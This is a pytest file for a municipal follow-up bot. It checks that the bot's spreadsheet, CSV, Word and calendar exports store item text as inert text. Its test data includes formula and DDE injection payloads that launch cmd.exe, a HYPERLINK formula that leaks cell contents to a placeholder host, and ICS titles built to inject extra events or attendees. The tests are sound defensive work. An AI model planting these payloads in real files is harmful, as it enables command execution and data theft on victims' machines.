"""Files people open on their own machines carry item text as text: no formula, no DDE, no extra calendar event."""
from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import pytest
from docx import Document
from icalendar import Calendar as ICalendar
from openpyxl import load_workbook

from bot.app import App
from handlers.deadlines import Calendar, parse_deadline
from handlers.domain.followup import FollowUp
from handlers.domain.ronde import RaadsLijst, RaadsRegel
from storage.exporters.ics import write_ics
from storage.exporters.ronde import write_docx, write_xlsx
from storage.exporters.xlsx import export_list
from storage.importers.kinds import TOEZEGGINGEN
from storage.importers.run import ImportOptions, import_file
from tests.dialogue import say

# What CSV/formula injection looks like (OWASP): formulas, DDE, HYPERLINK that leaks data, a leading tab.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://elders.example/?d=\"&A1,\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_item_text_in_the_xlsx_export_is_text_and_stays_text_when_edited(app: App, tmp_path: Path) -> None:
    for n, payload in enumerate(PAYLOADS, start=2):
        say(app, f"toezegging stand T-2026-00{n % 4 + 1} {payload}")
    say(app, "toezegging nieuw =1+2 als titel; portefeuillehouder: De Vries; deadline: Q3 2027")
    out = tmp_path / "toezeggingen.xlsx"
    with app.uow_factory() as uow:
        export_list(uow, "toezeggingen", out, app.clock.now().date())
    assert "<f>" not in _sheet_xml(out), "no cell is a formula"
    book = load_workbook(out)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@", "\t"))]
    assert {c.value for c in risky} >= {"=1+2 als titel", PAYLOADS[-1].strip()}
    # Kept verbatim (no apostrophe added to the text), marked as text for Excel so that editing keeps it text.
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_the_csv_export_neutralises_every_field_that_a_spreadsheet_would_evaluate(app: App, tmp_path: Path) -> None:
    for payload in PAYLOADS:
        say(app, f"toezegging stand T-2026-001 {payload}")
    say(app, "toezegging nieuw @SUM(A1:A9) als titel; portefeuillehouder: De Vries; deadline: Q3 2027")
    out = tmp_path / "toezeggingen.csv"
    with app.uow_factory() as uow:
        assert export_list(uow, "toezeggingen", out, app.clock.now().date()) == 5
    raw = out.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(raw.splitlines(), delimiter=";"))
    assert rows[0][:3] == ["Groep", "Nummer", "Omschrijving"]
    fields = [f for row in rows for f in row]
    assert "'@SUM(A1:A9) als titel" in fields
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # Every field quoted: a ';' or quote in item text cannot shift the columns.
    assert all(line.startswith('"') for line in raw.splitlines() if line)
    # And it reads back unchanged: the importer takes the apostrophe off again.
    report = import_file(app.uow_factory, app.clock, app.calendar, TOEZEGGINGEN, out, ImportOptions())
    assert report.errors == [] and (report.created, report.updated) == (0, 0), report.lines


def _lijst(text: str) -> RaadsLijst:
    regel = RaadsRegel("T-2026-001", text, text, "Q3 2027", text, text)
    return RaadsLijst(f"Lijst {text}", ((text, (regel,)),), 0)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_list_for_the_raad_carries_no_formula_and_no_word_field(payload: str, tmp_path: Path) -> None:
    write_xlsx(_lijst(payload), tmp_path / "lijst.xlsx")
    assert "<f>" not in _sheet_xml(tmp_path / "lijst.xlsx")
    sheet = load_workbook(tmp_path / "lijst.xlsx").worksheets[0]
    assert sheet["E3"].value == payload and sheet["E3"].data_type == "s" and sheet["E3"].quotePrefix

    dde = '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } ' + payload
    write_docx(_lijst(dde), tmp_path / "lijst.docx")
    with zipfile.ZipFile(tmp_path / "lijst.docx") as archive:
        body = archive.read("word/document.xml").decode()
    assert "fldSimple" not in body and "instrText" not in body and "fldChar" not in body
    assert any(dde in c.text for t in Document(str(tmp_path / "lijst.docx")).tables for c in t._cells)


# A title that tries to end its event and add properties and a second event, with every kind of line break.
ICS_TITLES = (
    "Brief\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:nep\r\nSUMMARY:nep\r\nDTSTART:20270101",
    "Brief\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:nep",
    "Brief\nATTENDEE:mailto:elders@example.org\nBEGIN:VALARM",
    "Brief\u2028END:VEVENT\u2029BEGIN:VEVENT\x85SUMMARY:nep\x0bX:1\x0cY:2",
    "Brief; met, komma's en \\ backslash;ORGANIZER:mailto:x@example.org",
)


def _followup(title: str, key: str = "T-2026-001") -> FollowUp:
    deadline = parse_deadline("31-03-2027", dt.date(2026, 11, 12), Calendar.empty())
    return FollowUp("toezegging", key, title, deadline, "openstaand", None, None, False)


def _content_lines(data: bytes) -> list[str]:
    """RFC 5545 §3.1 read line by line: split on CRLF only, unfold lines that start with a space or tab."""
    lines: list[str] = []
    for line in data.decode().split("\r\n"):
        if line[:1] in (" ", "\t") and lines:
            lines[-1] += line[1:]
        elif line:
            lines.append(line)
    return lines


def test_an_ics_title_cannot_add_properties_or_events(tmp_path: Path) -> None:
    out = tmp_path / "deadlines.ics"
    items = [_followup(title, f"T-2026-00{n}") for n, title in enumerate(ICS_TITLES, start=1)]
    write_ics(out, items, "Deadlines\r\nX-INJECTED:1", dt.datetime(2026, 11, 12, 9, tzinfo=dt.UTC))
    data = out.read_bytes()

    # The icalendar parser: one event per item, the summary is the whole title (line breaks as line breaks).
    events = ICalendar.from_ical(data).walk("VEVENT")
    assert len(events) == len(ICS_TITLES)
    assert str(events[4]["SUMMARY"]) == f"Deadline toezegging T-2026-005: {ICS_TITLES[4]}"
    assert str(events[1]["SUMMARY"]) == "Deadline toezegging T-2026-002: Brief\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:nep"
    assert all(str(e["UID"]).endswith("@samenspel") for e in events)

    # A second reader, strict RFC 5545 line by line: exactly the properties we wrote, nothing a title added.
    names = [line.split(":", 1)[0].split(";", 1)[0] for line in _content_lines(data)]
    assert names.count("BEGIN") == names.count("END") == 1 + len(ICS_TITLES)
    assert set(names) == {"BEGIN", "END", "PRODID", "VERSION", "X-WR-CALNAME", "UID", "DTSTAMP", "DTSTART", "DTEND",
                          "SUMMARY", "DESCRIPTION", "CATEGORIES", "CLASS"}
    # A lenient reader that breaks lines anywhere str.splitlines does (CR, LS, PS, NEL, VT, FF) finds no more either.
    lenient = [line for line in data.decode().splitlines() if line.startswith(("BEGIN:", "END:", "ATTENDEE", "X-INJ"))]
    assert len(lenient) == 2 * (1 + len(ICS_TITLES))
